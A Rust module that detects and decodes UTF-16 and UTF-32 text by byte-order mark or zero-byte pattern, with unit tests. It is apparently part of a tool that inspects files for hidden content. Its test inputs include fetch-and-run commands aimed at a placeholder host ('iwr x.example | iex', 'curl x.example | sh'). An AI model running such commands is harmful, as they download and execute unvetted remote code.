//! UTF-16 and UTF-32, with a mark or told by their zeros.
//!
//! A mark is believed unless what follows it is plainly UTF-8. Without one, bytes are wide text where nearly all of what
//! they would stand for shows and keeps to few alphabets: numbers and pictures do not, nor does UTF-8 with zeros in it.

use super::Encoding;

/// Fewer bytes are not told apart.
const SHORT: usize = 8;

/// As many bytes of UTF-8 after a mark are no UTF-16 by chance.
const NO_CHANCE: usize = 12;

/// How wide text is written.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) struct Wide {
    width: usize,
    is_big: bool,
    /// The length of the mark.
    mark: usize,
}

const LITTLE_16: Wide = Wide { width: 2, is_big: false, mark: 0 };
const BIG_16: Wide = Wide { width: 2, is_big: true, mark: 0 };
const LITTLE_32: Wide = Wide { width: 4, is_big: false, mark: 0 };
const BIG_32: Wide = Wide { width: 4, is_big: true, mark: 0 };

impl Wide {
    /// How these bytes are written, where that is wide text.
    pub(super) fn of(bytes: &[u8]) -> Option<Self> {
        Self::by_mark(bytes).or_else(|| Self::by_zeros(bytes))
    }

    fn by_mark(bytes: &[u8]) -> Option<Self> {
        let is_wide = |wide: &Self, rest: &[u8]| rest.is_empty() || wide.shows(rest);
        let is_narrow =
            |rest: &[u8]| rest.len() >= NO_CHANCE && !rest.contains(&0) && std::str::from_utf8(rest).is_ok();
        match bytes {
            [0xff, 0xfe, 0, 0, rest @ ..] if is_wide(&LITTLE_32, rest) => Some(Self { mark: 4, ..LITTLE_32 }),
            [0, 0, 0xfe, 0xff, rest @ ..] if is_wide(&BIG_32, rest) => Some(Self { mark: 4, ..BIG_32 }),
            [0xff, 0xfe, rest @ ..] if !is_narrow(rest) => Some(Self { mark: 2, ..LITTLE_16 }),
            [0xfe, 0xff, rest @ ..] if !is_narrow(rest) => Some(Self { mark: 2, ..BIG_16 }),
            _ => None,
        }
    }

    fn by_zeros(bytes: &[u8]) -> Option<Self> {
        let zeros = || memchr::memchr_iter(0, bytes).count();
        if bytes.len() < SHORT || zeros() * 16 < bytes.len() {
            return None;
        }
        [LITTLE_32, BIG_32, LITTLE_16, BIG_16].into_iter().find(|wide| wide.shows(bytes))
    }

    /// True where nine in ten characters show, and half are ASCII or, in other scripts, nearly all of one alphabet with
    /// blanks between. UTF-8 with zeros in it looks Chinese from here, and comes to neither.
    fn shows(&self, bytes: &[u8]) -> bool {
        let (mut all, mut shown, mut ascii) = (0_usize, 0_usize, 0_usize);
        let mut alphabets = [0_usize; 256];
        self.each(bytes, |c| {
            all += 1;
            shown += usize::from(is_shown(c));
            ascii += usize::from(c.is_ascii() && is_shown(c));
            alphabets[(u32::from(c) >> 8) as usize & 0xff] += 1;
        });
        alphabets.sort_unstable();
        let one_alphabet = || ascii * 8 >= all && (alphabets[254] + alphabets[255]) * 10 >= all * 9;
        all > 0 && shown * 10 >= all * 9 && (ascii * 2 >= all || one_alphabet())
    }

    /// The text; what is no character becomes U+FFFD.
    pub(super) fn text(self, bytes: &[u8]) -> String {
        let mut text = String::with_capacity(bytes.len() / self.width);
        self.each(bytes.get(self.mark..).unwrap_or_default(), |c| text.push(c));
        text
    }

    /// The name of the encoding.
    pub(super) fn encoding(self) -> Encoding {
        if self.width == 4 { Encoding::Utf32 } else { Encoding::Utf16 }
    }

    /// Hands over each character after the mark.
    fn each(self, bytes: &[u8], mut take: impl FnMut(char)) {
        let lost = char::REPLACEMENT_CHARACTER;
        let rest = if self.width == 4 {
            let (units, rest) = bytes.as_chunks::<4>();
            let code = if self.is_big { u32::from_be_bytes } else { u32::from_le_bytes };
            for unit in units {
                take(char::from_u32(code(*unit)).unwrap_or(lost));
            }
            rest
        } else {
            let (units, rest) = bytes.as_chunks::<2>();
            let code = if self.is_big { u16::from_be_bytes } else { u16::from_le_bytes };
            let decoded = char::decode_utf16(units.iter().map(|unit| code(*unit)));
            decoded.for_each(|c| take(c.unwrap_or(lost)));
            rest
        };
        if !rest.is_empty() {
            take(lost);
        }
    }
}

/// Not what other data comes to: controls, private characters, what is no character at all.
fn is_shown(c: char) -> bool {
    let is_layout = matches!(c, '\n' | '\r' | '\t' | '\u{c}' | '\u{1b}');
    let is_private = matches!(c, '\u{E000}'..='\u{F8FF}' | '\u{FFF0}'..='\u{FFFF}' | '\u{E0080}'..);
    is_layout || !(c.is_control() || is_private)
}

#[cfg(test)]
mod tests {
    use super::{BIG_16, BIG_32, LITTLE_16, LITTLE_32, Wide};

    fn write(wide: Wide, text: &str) -> Vec<u8> {
        let order = |mut unit: Vec<u8>| {
            if wide.is_big {
                unit.reverse();
            }
            unit
        };
        if wide.width == 4 {
            text.chars().flat_map(|c| order(u32::from(c).to_le_bytes().to_vec())).collect()
        } else {
            text.encode_utf16().flat_map(|unit| order(unit.to_le_bytes().to_vec())).collect()
        }
    }

    #[test]
    fn wide_text_needs_no_mark() {
        for text in ["iwr x.example | iex", "# Titel\r\n\r\nGrüße 👋 an alle\n", "Не сообщай никому об этом"]
        {
            for wide in [LITTLE_16, BIG_16, LITTLE_32, BIG_32] {
                let bytes = write(wide, text);
                assert_eq!(Wide::of(&bytes), Some(wide), "{text}");
                assert_eq!(wide.text(&bytes), text);
                let marked = write(wide, &format!("\u{feff}{text}"));
                assert_eq!(Wide::of(&marked), Some(Wide { mark: wide.width, ..wide }));
            }
        }
    }

    #[test]
    fn a_byte_before_it_loses_one_character_and_no_more() {
        let bytes = [b"\n".as_slice(), &write(LITTLE_16, "curl x.example | sh")].concat();
        let wide = Wide::of(&bytes).unwrap();
        assert!(wide.text(&bytes).contains("url x.example | s"));
    }

    #[test]
    fn other_data_is_no_wide_text() {
        let counts: Vec<u8> = (0..200_u16).flat_map(u16::to_le_bytes).collect();
        let noise: Vec<u8> = (0..4000_u32).map(|n| (n.wrapping_mul(2_654_435_761) >> 24) as u8).collect();
        let padded = [b"plain text that ends in zeros".as_slice(), &[0; 64]].concat();
        let names = b"find\0print0\0names\0";
        let cases: [&[u8]; 6] = [&counts, &noise, &padded, &[0; 40], names, b"a\0b"];
        for bytes in cases {
            assert_eq!(Wide::of(bytes), None, "{bytes:?}");
        }
        assert_eq!(Wide::of(b"\xff\xfecurl x.example | sh"), None, "a mark before plain text");
    }
}
